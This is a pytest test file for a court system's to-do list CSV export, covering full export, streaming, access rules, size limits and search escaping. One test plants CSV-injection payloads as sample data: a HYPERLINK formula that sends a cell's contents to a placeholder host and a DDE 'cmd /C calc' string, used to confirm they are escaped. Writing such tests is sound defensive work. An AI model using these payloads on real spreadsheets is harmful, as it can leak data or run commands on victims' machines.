"""导出 on the to-do list (``GET /todo/export``) gives the list as filtered: every row the
filters select, not one page, numbered 序号 1..N, under the list's access rules, streamed and
read in chunks; past ``MAX_EXPORT_ROWS`` it is a problem+json before any CSV. It exported
only the page asked for (``/todo?format=csv``), so a court with more than ten pending items
exported ten."""

from __future__ import annotations

import csv
import functools
import io
import json
import threading
from typing import Any

import pytest
from sqlalchemy import event
from sqlalchemy.orm import ORMExecuteState

from ecourt.contracts import OPENAPI
from services.matters import api as matters_api
from services.matters import applications, views
from services.matters.tests.conftest import (
    APPLY,
    COURT,
    COURT_NAME,
    OTHER_COURT,
    Harness,
    case_number,
)


def _applied(h: Harness, count: int, case: dict[str, Any] | None = None) -> list[str]:
    """``count`` applications by the plaintiff in ``case`` (a new one if none): their ids."""
    url = f"/cases/{(case or h.case())['id']}/applications"
    made = [h.client.post(url, headers=h.party(), json=APPLY) for _ in range(count)]
    assert all(r.status_code == 201 for r in made)
    return [r.get_json()["id"] for r in made]


def _export(h: Harness, headers: dict[str, str], **query: Any) -> list[list[str]]:
    """The exported rows (without the header line), after checking it is a CSV download."""
    resp = h.client.get("/todo/export", headers=headers, query_string=query)
    assert resp.status_code == 200, resp.get_json()
    assert resp.content_type == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="todo.csv"'
    text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff序号,")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]


def _listed(h: Harness, headers: dict[str, str], **query: Any) -> list[dict[str, Any]]:
    """Every row of the JSON list, page after page."""
    rows: list[dict[str, Any]] = []
    page: int | None = 1
    while page is not None:
        resp = h.client.get("/todo", headers=headers,
                            query_string={**query, "page": page, "page_size": 5})
        rows += resp.get_json()["items"]
        page = json.loads(resp.headers["X-Pagination"]).get("next_page")
    return rows


def test_the_export_gives_every_row_the_filters_select_numbered_from_1(on_db: Harness) -> None:
    """Failed before: no /todo/export, and ``format=csv`` gave the one page asked for."""
    h = on_db
    _applied(h, 9)
    other_case = h.case()
    _applied(h, 4, other_case)
    staff = h.token("specialist")
    listed = _listed(h, staff)
    assert len(listed) == 13
    rows = _export(h, staff, page=2, page_size=5)  # page parameters do not apply
    assert [r[0] for r in rows] == [str(n) for n in range(1, 14)]
    assert [r[2] for r in rows] == [x["service_number"] for x in listed]  # the list's order
    narrowed = _export(h, staff, q=other_case["case_number"])
    assert [r[0] for r in narrowed] == ["1", "2", "3", "4"]
    assert {r[3] for r in narrowed} == {other_case["case_number"]}
    assert _export(h, staff, status="completed") == []


def test_the_export_streams_and_reads_its_rows_in_chunks(harness: Harness) -> None:
    h = harness
    _applied(h, 3)
    seen: list[Any] = []

    @event.listens_for(h.rt.db.sessions, "do_orm_execute")
    def _rows_query(state: ORMExecuteState) -> None:
        seen.append(state.execution_options.get("yield_per"))

    resp = h.client.get("/todo/export", headers=h.token("specialist"), buffered=False)
    assert resp.status_code == 200
    assert resp.is_streamed
    assert len(list(csv.reader(io.StringIO(resp.get_data(as_text=True))))) == 4
    assert applications.EXPORT_CHUNK in seen  # read yield_per, never fetchall


def test_a_download_in_progress_holds_up_no_write(harness: Harness,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """On SQLite (the embedded tier) the export's transaction took the write lock for as long
    as the client took to download: every write of matters waited, and failed after the busy
    timeout. A party applies while a download is under way (a chunk a row, so three rows are
    a download still reading after its first chunk)."""
    h = harness
    monkeypatch.setattr(matters_api, "todo_csv", functools.partial(views.todo_csv, batch=1))
    url = f"/cases/{h.case()['id']}/applications"
    _applied(h, 3)
    resp = h.client.get("/todo/export", headers=h.token("specialist"), buffered=False)
    try:
        chunks = iter(resp.response)
        assert next(chunks).startswith("\ufeff序号".encode())  # under way, transaction open
        done: list[int] = []
        writer = threading.Thread(target=lambda: done.append(
            h.client.post(url, headers=h.party(), json=APPLY).status_code))
        writer.start()
        writer.join(timeout=15)  # the busy timeout is 30 s: a write held up never gets here
        assert done == [201], "the write waited for the download"
    finally:
        resp.close()
        writer.join(timeout=60)


def test_no_one_exports_rows_of_a_court_or_a_case_not_theirs(harness: Harness) -> None:
    """A party or a lawyer gets 403; another court's staff export their own court's rows
    only; in the back office a judge exports only their own cases'."""
    h = harness
    _applied(h, 12)
    for headers in (h.party(), h.lawyer()):
        resp = h.client.get("/todo/export", headers=headers)
        assert resp.status_code == 403
        assert resp.content_type == "application/problem+json"
    assert _export(h, h.token("specialist", court=OTHER_COURT)) == []
    theirs = _applied(h, 2, h.case(court=OTHER_COURT))
    assert len(theirs) == 2
    assert len(_export(h, h.token("specialist", court=OTHER_COURT))) == 2
    assert len(_export(h, h.token("specialist"))) == 12
    h.reviewed({"needs_judge": True})  # in a case of the harness's judge
    assert len(_export(h, h.staff("judge"), stage="back_office")) == 1
    assert _export(h, h.token("judge"), stage="back_office") == []


def test_more_rows_than_the_bound_is_a_problem_before_any_csv(
        harness: Harness, monkeypatch: pytest.MonkeyPatch) -> None:
    h = harness
    monkeypatch.setattr(applications, "MAX_EXPORT_ROWS", 5)
    case = h.case()
    _applied(h, 6, case)
    resp = h.client.get("/todo/export", headers=h.token("specialist"), buffered=False)
    assert resp.status_code == 422
    assert resp.content_type == "application/problem+json"
    problem = json.loads(resp.get_data())  # JSON from the first byte: no BOM, no CSV header
    assert problem["type"].endswith("/export-too-large")
    assert (problem["total"], problem["limit"]) == (6, 5)
    assert "narrow" in problem["detail"]
    smaller = h.case()  # writing again: the refused export let its transaction go
    _applied(h, 2, smaller)
    assert len(_export(h, h.token("specialist"), q=smaller["case_number"])) == 2


def test_the_contract_gives_the_export_the_list_s_filters_and_no_page() -> None:
    spec = json.loads((OPENAPI / "matters.json").read_text(encoding="utf-8"))
    listing, export = spec["paths"]["/todo"]["get"], spec["paths"]["/todo/export"]["get"]
    names = {p["name"] for p in export["parameters"]}
    assert names == {p["name"] for p in listing["parameters"]} - {"page", "page_size"}
    assert "format" not in names
    assert set(export["responses"]["200"]["content"]) == {"text/csv"}
    assert set(export["responses"]["422"]["content"]) == {"application/problem+json"}
    assert set(listing["responses"]["200"]["content"]) == {"application/json"}


#: what a spreadsheet program (Excel, WPS, LibreOffice) takes for the start of a formula,
#: full-width signs and formulas behind blanks included
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "\u3000＝",
                  "  @")


def test_a_name_or_a_department_that_reads_as_a_formula_is_exported_as_text(
        harness: Harness) -> None:
    """A party's name (the row's title) and the case's department are what people typed;
    written as is, ``=HYPERLINK(...)`` or ``@SUM(...)`` ran as a formula in the clerk's
    spreadsheet (CSV injection). Each such cell now starts with ``'`` (OWASP), which the
    spreadsheet shows as text; the JSON list keeps what was typed."""
    h = harness
    name = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    party = h.book.person(name)
    specialist = h.token("specialist")
    for start in ("@", "+", "-"):
        resp = h.client.post("/cases", headers=specialist, json={
            "case_number": case_number(COURT), "court": COURT, "court_name": COURT_NAME,
            "cause": "买卖合同纠纷", "department": f"{start}SUM(1+1)*cmd|' /C calc'!A0",
            "judge_account_id": h.ids["judge"], "clerk_account_id": h.ids["clerk"],
            "parties": [{"name": name, "role": "plaintiff", "account_id": party},
                        {"name": "-黄添强", "role": "defendant", "account_id": None}]})
        assert resp.status_code == 201, resp.get_json()
        applied = h.client.post(f"/cases/{resp.get_json()['id']}/applications",
                                headers=h.token("party", court=None, sub=party), json=APPLY)
        assert applied.status_code == 201, applied.get_json()
    rows = _export(h, specialist)
    assert {r[1] for r in rows} == {f"'{name}/生效证明"}
    assert sorted(r[5] for r in rows) == sorted(f"'{s}SUM(1+1)*cmd|' /C calc'!A0"
                                                for s in ("@", "+", "-"))
    assert {r[4] for r in rows} == {f"原告:{name};被告:-黄添强"}  # starts with 原告: text
    assert [r[0] for r in rows] == ["1", "2", "3"]  # 序号 is a number, left alone
    listed = _listed(h, specialist)
    assert {x["title"] for x in listed} == {f"{name}/生效证明"}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_text_cell_starting_a_formula_is_prefixed_and_no_other(start: str) -> None:
    row = {key: f"{start}1+1" for _, key in views.CSV_COLUMNS if key}
    plain = {key: f"(2021)粤01民初8号{start}" for _, key in views.CSV_COLUMNS if key}
    text = "".join(views.todo_csv([row, plain])).lstrip("\ufeff")
    written = list(csv.reader(io.StringIO(text, newline="")))
    assert written[1] == ["1"] + [f"'{start}1+1"] * (len(views.CSV_COLUMNS) - 1)
    assert written[2] == ["2"] + [f"(2021)粤01民初8号{start}"] * (len(views.CSV_COLUMNS) - 1)


def test_a_case_number_searched_in_full_width_brackets_is_found(harness: Harness) -> None:
    """Case numbers are kept in plain brackets; a clerk typing （2021）… finds the case too."""
    h = harness
    case = h.case()
    _applied(h, 2, case)
    _applied(h, 1)
    wide = case["case_number"].replace("(", "（").replace(")", "）")
    staff = h.token("specialist")
    found = _listed(h, staff, q=wide)
    assert {row["case_number"] for row in found} == {case["case_number"]} and len(found) == 2
    assert len(_export(h, staff, q=wide)) == 2


def test_the_to_do_search_takes_percent_and_underscore_as_typed(harness: Harness) -> None:
    """``q`` went into LIKE as it was: ``_`` or ``%`` matched every application."""
    h = harness
    _applied(h, 2)
    staff = h.token("specialist")
    assert len(_listed(h, staff)) == 2
    for q in ("_", "%", "%%"):
        assert _listed(h, staff, q=q) == [], q
        assert _export(h, staff, q=q) == [], q
